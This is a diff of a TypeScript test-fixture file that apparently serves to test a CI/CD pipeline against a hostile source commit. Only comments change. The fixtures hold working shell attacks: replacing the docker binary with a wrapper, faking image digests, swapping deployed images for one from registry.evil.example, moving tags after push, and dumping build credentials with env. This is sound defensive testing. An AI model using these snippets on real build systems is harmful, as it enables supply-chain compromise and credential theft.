@@ -1,13 +1,13 @@
 import { CommitFiles } from 'codepipeline-rehearsal';
 import { shopSource } from '../../../examples/demo/shop-source';
 
-/** What a test command of the source may be: anything. */
+/** Test commands of a hostile source. */
 export const sourceWithTests = (script: string): CommitFiles => shopSource({ 'test.sh': script });
 
-/** An image that nobody reviewed, from a registry that is not ours. */
+/** An unreviewed image from a foreign registry. */
 export const FOREIGN_IMAGE = `registry.evil.example/shop@sha256:${'e'.repeat(64)}`;
 
-/** Goes on after the test has passed, as long as the build runs, and a little longer. */
+/** Continues after the test has passed, until shortly after the end of the build. */
 const inBackground = (commands: string): string => `(
   for turn in $(seq 1 400); do
     ${commands}
@@ -16,7 +16,7 @@ const inBackground = (commands: string): string => `(
 ) > /dev/null 2>&1 &
 `;
 
-/** Puts a program of its own before the real \`docker\`, which the rest of the build then runs. */
+/** Replaces \`docker\` with another program, which the rest of the build then runs. */
 const wrapDocker = (body: string): string => `
 docker=$(command -v docker)
 cp "$docker" "$docker-real"
@@ -28,14 +28,14 @@ WRAPPER
 chmod +x "$docker"
 `;
 
-/** Another image under the same name. */
+/** Pushes another image under the same name. */
 const BUILD_EVIL = `mkdir -p "$HOME/evil" && date +%N > "$HOME/evil/evil" && printf 'FROM scratch\\nCOPY evil /\\n' > "$HOME/evil/Dockerfile"
 "$real" build --quiet --tag "$IMAGE_URI" "$HOME/evil"`;
 
 export const rewritesDefinitions = inBackground(`file="$CODEBUILD_SRC_DIR/imagedefinitions.json"
     test -s "$file" && printf '[{"name":"app","imageUri":"${FOREIGN_IMAGE}"}]' > "$file"`);
 
-/** \`docker image inspect\` is where the build learns the digest from. */
+/** Fakes \`docker image inspect\`, which the build reads the digest from. */
 export const claimsDigest = (digest: string): string =>
   wrapDocker(`if [ "$1" = image ]; then echo "$REPOSITORY_URI@${digest}"; else exec "$real" "$@"; fi`);
 
@@ -45,7 +45,7 @@ export const pushesTwice = wrapDocker(`if [ "$1" = push ]; then
 fi
 exec "$real" "$@"`);
 
-/** The digest of the first push is claimed, and the second one is what the tag is on. */
+/** Claims the digest of the first push, while the tag is on the second. */
 export const pushesTwiceAndClaimsTheFirst = wrapDocker(`digests="$HOME/digests"
 if [ "$1" = push ]; then
   "$real" "$@" || exit
@@ -55,7 +55,7 @@ fi
 if [ "$1" = image ]; then exec cat "$digests"; fi
 exec "$real" "$@"`);
 
-/** Waits until the build has exported its digest, and moves the tag then. */
+/** Moves the tag after the build has exported its digest. */
 export const movesTagAfterPush = `real=docker
 (
   for turn in $(seq 1 400); do
@@ -68,5 +68,5 @@ export const movesTagAfterPush = `real=docker
 ) > /dev/null 2>&1 &
 `;
 
-/** Gives its credentials away. */
+/** Publishes the credentials of the build. */
 export const leaksCredentials = (file: string): string => `env > '${file}'\n`;
